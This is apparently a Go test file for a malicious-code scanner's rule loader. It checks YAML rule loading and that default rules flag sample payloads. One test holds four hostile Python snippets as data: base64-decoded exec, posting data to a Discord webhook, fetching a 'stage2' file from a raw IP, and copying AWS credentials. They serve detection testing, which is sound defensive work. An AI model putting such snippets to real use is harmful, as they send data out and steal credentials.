package rules

import (
	"os"
	"path/filepath"
	"testing"
)

func writeRuleFile(t *testing.T, dir, name, content string) string {
	t.Helper()
	path := filepath.Join(dir, name)
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatalf("failed to write rule file: %v", err)
	}
	return path
}

func TestLoadRulesFromPath_SingleFile(t *testing.T) {
	dir := t.TempDir()
	path := writeRuleFile(t, dir, "rules.yml", `
version: "2.0"
rules:
  - id: only
    patterns:
      - type: substring
        value: "evil"
`)

	rs, err := LoadRulesFromPath(path)
	if err != nil {
		t.Fatalf("LoadRulesFromPath returned error: %v", err)
	}
	if rs.Version != "2.0" {
		t.Errorf("Version = %q, want %q", rs.Version, "2.0")
	}
	if rs.Len() != 1 {
		t.Errorf("Len() = %d, want 1", rs.Len())
	}
}

func TestLoadRulesFromPath_Directory(t *testing.T) {
	dir := t.TempDir()
	writeRuleFile(t, dir, "b.yml", `
rules:
  - id: from-b
    patterns:
      - type: substring
        value: "b"
`)
	writeRuleFile(t, dir, "a.yaml", `
version: "3.1"
rules:
  - id: from-a
    patterns:
      - type: substring
        value: "a"
`)
	writeRuleFile(t, dir, "notes.txt", "not a rule file")

	rs, err := LoadRulesFromPath(dir)
	if err != nil {
		t.Fatalf("LoadRulesFromPath returned error: %v", err)
	}
	if rs.Len() != 2 {
		t.Fatalf("Len() = %d, want 2", rs.Len())
	}
	// Files compile in sorted order, a.yaml first.
	if rs.Rules[0].ID != "from-a" {
		t.Errorf("first rule = %q, want %q", rs.Rules[0].ID, "from-a")
	}
}

func TestLoadRulesFromPath_DuplicateAcrossFiles(t *testing.T) {
	dir := t.TempDir()
	writeRuleFile(t, dir, "a.yml", `
rules:
  - id: shared
    patterns:
      - type: substring
        value: "a"
`)
	writeRuleFile(t, dir, "b.yml", `
rules:
  - id: shared
    patterns:
      - type: substring
        value: "b"
`)

	if _, err := LoadRulesFromPath(dir); err == nil {
		t.Fatal("expected error for duplicate id across files")
	}
}

func TestLoadRulesFromPath_MissingPath(t *testing.T) {
	if _, err := LoadRulesFromPath(filepath.Join(t.TempDir(), "nope")); err == nil {
		t.Fatal("expected error for missing path")
	}
}

func TestLoadRulesFromPath_EmptyDirectory(t *testing.T) {
	if _, err := LoadRulesFromPath(t.TempDir()); err == nil {
		t.Fatal("expected error for directory without rule files")
	}
}

func TestLoadDefaultRules_Compiles(t *testing.T) {
	rs := LoadDefaultRules()
	if rs.Len() == 0 {
		t.Fatal("default rule set is empty")
	}
	if rs.Version == "" {
		t.Error("default rule set has no version")
	}
}

func TestLoadDefaultRules_CatchesKnownPayloads(t *testing.T) {
	rs := LoadDefaultRules()

	cases := []struct {
		rule    string
		content string
	}{
		{"obfuscated-exec", `exec(base64.b64decode("aW1wb3J0IG9z"))`},
		{"exfiltration-webhook", `requests.post("https://discord.com/api/webhooks/123/abc", json=data)`},
		{"suspicious-ip-callback", `urlopen("http://185.62.58.10/stage2")`},
		{"credential-file-theft", `shutil.copy(os.path.expanduser("~/.aws/credentials"), tmp)`},
	}

	for _, tc := range cases {
		rule, ok := rs.Get(tc.rule)
		if !ok {
			t.Errorf("default rule %q not found", tc.rule)
			continue
		}
		if _, matched := rule.Evaluate([]byte(tc.content)); !matched {
			t.Errorf("rule %q did not match %q", tc.rule, tc.content)
		}
	}
}

func TestLoadDefaultRules_CleanContentPasses(t *testing.T) {
	rs := LoadDefaultRules()
	clean := []byte(`
import json

def load(path):
    with open(path) as fh:
        return json.load(fh)
`)
	for _, rule := range rs.Rules {
		if _, matched := rule.Evaluate(clean); matched {
			t.Errorf("rule %q matched benign content", rule.ID)
		}
	}
}
